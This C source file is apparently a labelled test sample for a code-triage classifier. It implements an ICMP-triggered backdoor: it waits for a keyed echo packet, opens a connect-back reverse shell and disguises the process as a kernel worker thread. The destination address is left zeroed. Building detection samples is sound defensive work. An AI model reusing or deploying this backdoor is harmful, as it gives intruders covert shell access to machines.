/* triage-expect: triage_c_backdoor_source
 * Shape of an ICMP-triggered backdoor: a raw socket waits for a keyed echo request, then a
 * connect-back whose socket becomes the shell's stdin/stdout/stderr. */
#include <netinet/in.h>
#include <netinet/ip_icmp.h>
#include <sys/socket.h>
#include <unistd.h>
#include <string.h>

#define TRIGGER "sample-key"
#define SHELL "/bin/sh"

static void connect_back(struct sockaddr_in *to) {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (connect(s, (struct sockaddr *) to, sizeof *to) == 0) {
        dup2(s, 0); dup2(s, 1); dup2(s, 2);
        execl(SHELL, "[kworker/0:1]", (char *) 0);
    }
}

int main(void) {
    char buf[1024];
    int raw = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);
    for (;;) {
        ssize_t n = recv(raw, buf, sizeof buf, 0);
        if (n > 0 && memmem(buf, n, TRIGGER, strlen(TRIGGER))) { struct sockaddr_in to = {0}; connect_back(&to); }
    }
}
